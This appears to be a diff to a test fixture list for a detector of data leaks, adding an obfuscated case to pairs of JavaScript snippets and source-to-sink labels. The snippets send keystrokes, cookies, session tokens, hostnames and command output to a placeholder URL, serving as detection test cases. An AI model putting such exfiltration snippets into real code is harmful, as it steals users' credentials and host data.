@@ -39,6 +39,10 @@ EVERY_SOURCE_AND_SINK = [
     ("document.addEventListener('keydown', (e) => fetch(u, {body: e.key}))", "form-input>network"),
     ("fetch(u, {body: document.cookie})", "cookies>network"),
     ("fetch(u, {body: localStorage.getItem('session')})", "cookies>network"),
+    (
+        "const p = {f(a, b) { return a(b) }}, send = (t) => fetch(u, {body: t}); p.f(send, document.cookie)",
+        "cookies>network",
+    ),
     ("fetch(u, {body: os.hostname()})", "host-info>network"),
     ("const {username} = os.userInfo(); fetch(u + username)", "host-info>network"),
     ("fetch(u, {body: cp.execSync('whoami').toString()})", "host-info>network"),
